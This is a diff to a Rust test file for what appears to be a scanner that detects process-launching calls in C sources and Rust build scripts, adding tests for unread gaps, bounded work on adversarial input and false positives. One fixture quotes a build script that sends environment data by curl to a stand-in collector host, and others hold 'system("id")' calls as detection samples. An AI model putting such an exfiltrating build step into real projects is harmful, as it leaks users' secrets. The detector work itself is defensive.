@@ -4,7 +4,8 @@ use super::*;
 
 /// What runs each call, its name and its command or code.
 fn shown(path: &str, text: &str) -> Vec<String> {
-    let parts = read_program_source(path, text).unwrap_or_default();
+    let ProgramReading { parts, gaps } = read_program_source(path, text).unwrap_or_default();
+    assert_eq!(gaps, []);
     let show = |part: &ProgramPart, operation: &Operation| {
         let first = operation.arguments.first().map_or("", |(_, text)| text.as_str());
         format!("{:?} {} {first}", part.run_by, operation.name)
@@ -58,7 +59,7 @@ fn the_environment_flows_through_names_into_a_command_of_a_build_script() {
             tool.arg("https://collect.invalid/b").spawn();
         }
     "#;
-    let parts = read_program_source("build.rs", source).unwrap();
+    let parts = read_program_source("build.rs", source).unwrap().parts;
     let [part] = parts.as_slice() else { panic!("{parts:?}") };
     assert_eq!(part.run_by, RunBy::Build);
     let sent = part.operations.iter().find(|o| o.name == "sh:curl").unwrap();
@@ -74,5 +75,58 @@ fn other_members_and_sources_that_start_nothing_are_left_out() {
     for text in ["", "system(", "f() { system(\"a\" }", "{{{{", "#define", "popen(\"", "Command::new("] {
         let _ = read_program_source("a.c", text);
         let _ = read_program_source("build.rs", text);
+    }
+}
+
+#[test]
+fn what_is_not_read_of_a_source_is_said() {
+    let many = "void f(void) { system(\"id\"); }\n".repeat(MAX_CALLS + 1);
+    let long = format!("void f(void) {{ system(\"id\"); }}\n//{}", " ".repeat(MAX_SOURCE));
+    let nested = "f() { system(\"id\"); ".repeat(3_000);
+    for source in [many, long, nested] {
+        let reading = read_program_source("a.c", &source).unwrap();
+        assert!(!reading.parts.is_empty() && reading.gaps.len() == 1, "{:?}", reading.gaps);
+    }
+}
+
+#[test]
+fn work_stays_in_proportion_to_the_source() {
+    let pieces = [
+        "f(){",
+        "strcpy(",
+        "a=",
+        "system(",
+        "#define",
+        "#",
+        "r",
+        "R\"",
+        "fn a ",
+        "constructor ",
+        "format!(",
+        "Command::new(",
+        "(",
+        "let a=env::vars();",
+        "execv(a,",
+        "popen(strcat(a,",
+        "x.y(",
+        "'\\",
+    ];
+    for piece in pieces {
+        let text = format!("system(1); Command {}", piece.repeat(200_000 / piece.len()));
+        for path in ["a.c", "build.rs"] {
+            let _ = read_program_source(path, &text);
+        }
+    }
+}
+
+#[test]
+fn names_that_only_hold_the_name_of_a_start_are_no_start() {
+    assert!(!is_program_source(
+        "sqlite3.c",
+        b"int sqlite3_exec(sqlite3 *db); /* the system of pages */".as_slice()
+    ));
+    assert!(!is_program_source("a.c", b"filesystem(x); executor.run();"));
+    for source in ["x=system (\"id\");", "execvp(a, b)", "PyRun_SimpleString(\"1\")", "CreateProcessW(0)"] {
+        assert!(is_program_source("a.c", source.as_bytes()), "{source}");
     }
 }
